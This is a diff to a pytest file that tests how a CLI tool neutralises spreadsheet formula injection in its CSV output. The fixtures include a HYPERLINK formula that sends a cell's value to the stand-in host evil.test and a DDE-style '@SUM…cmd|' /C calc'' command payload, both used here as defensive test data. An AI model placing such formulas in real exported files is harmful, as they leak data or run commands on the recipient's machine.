@@ -4,12 +4,13 @@ A business name, a note, an "other" channel's name or a survey cell can hold
 terminal control sequences (a window title, an OSC 52 clipboard write, a
 screen clear), C1 controls, NUL and bidi overrides; a rubric from somebody
 else can hold HTML and links. Every command that shows such text must show
-it escaped.
+it escaped, and a spreadsheet must never read a cell as a formula.
 """
 
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 import shutil
@@ -19,7 +20,7 @@ import pytest
 from typer.testing import CliRunner
 
 from omnicheck.cli import app
-from omnicheck.printable import json_safe, printable
+from omnicheck.printable import json_safe, printable, spreadsheet_cell
 from tests.conftest import ROOT
 
 runner = CliRunner()
@@ -245,3 +246,79 @@ def test_the_template_of_a_hostile_rubric_still_reads_back(tmp_path, hostile_rub
     status, _, err = run("validate", str(out), "--rubric", str(hostile_rubric))
     assert status == 2
     assert "missing answer" in err  # read as YAML, then found unanswered
+
+
+# --- spreadsheets ----------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tleading tab",
+    "\rleading return",
+]
+
+
+def test_spreadsheet_cells_never_start_a_formula():
+    assert [spreadsheet_cell(f) for f in FORMULAS] == [
+        '\'=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1+1",
+        "'-2+3",
+        "'\tleading tab",
+        "\\x0dleading return",  # CR is shown as an escape, which no spreadsheet runs
+    ]
+    assert spreadsheet_cell("Acme = best") == "Acme = best"
+    assert spreadsheet_cell("") == ""
+
+
+def test_batch_csv_neutralises_formulas(tmp_path, monkeypatch):
+    from omnicheck.loading import answers_from, rubric_from
+    from tests.conftest import survey_cells, write_survey
+
+    rubric = rubric_from(None)
+    good = survey_cells(answers_from(OUTDOOR, rubric).answers)
+    # Names are stripped as they are read, so a leading tab or CR never gets this far.
+    rows = [{**good, "name": name} for name in [*FORMULAS[:4], "Plain Co"]]
+    survey = write_survey(tmp_path / "survey.csv", rubric, rows)
+    # Answers files whose own name is a formula, given by that name: the source cell.
+    monkeypatch.chdir(tmp_path)
+    files = [("=1+2.yaml", "'-1'"), ("@x.yaml", '"+x"')]
+    for file_name, business in files:
+        text = OUTDOOR.read_text(encoding="utf-8").replace("Northfield Outdoor", business)
+        Path(file_name).write_text(text, encoding="utf-8")
+    out = tmp_path / "rows.csv"
+    status, _, err = run("batch", str(survey), *(f for f, _ in files), "-o", str(out))
+    assert status == 0, err
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    names = [c["name"] for c in cells]
+    assert names == [
+        '\'=HYPERLINK("http://evil.test/?"&A1,"Click for details")',
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'+1+1",
+        "'-2+3",
+        "Plain Co",
+        "'-1",
+        "'+x",
+    ]
+    assert [c["source"] for c in cells[-2:]] == ["'=1+2.yaml", "'@x.yaml"]
+    # The scores are numbers that omnicheck computed: written as numbers, no quote.
+    for cell in cells:
+        numbers = [v for k, v in cell.items() if k == "index" or k.startswith("dimension.")]
+        assert all(float(v) >= 0 for v in numbers)
+    formula = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(v.startswith(formula) for c in cells for v in c.values())
+
+
+def test_batch_csv_on_stdout_neutralises_formulas(tmp_path):
+    path = tmp_path / "a.yaml"
+    path.write_text(
+        OUTDOOR.read_text(encoding="utf-8").replace("Northfield Outdoor", '"@cmd"'),
+        encoding="utf-8",
+    )
+    status, out, _ = run("batch", str(path))
+    assert status == 0
+    (row,) = csv.DictReader(io.StringIO(out))
+    assert row["name"] == "'@cmd"
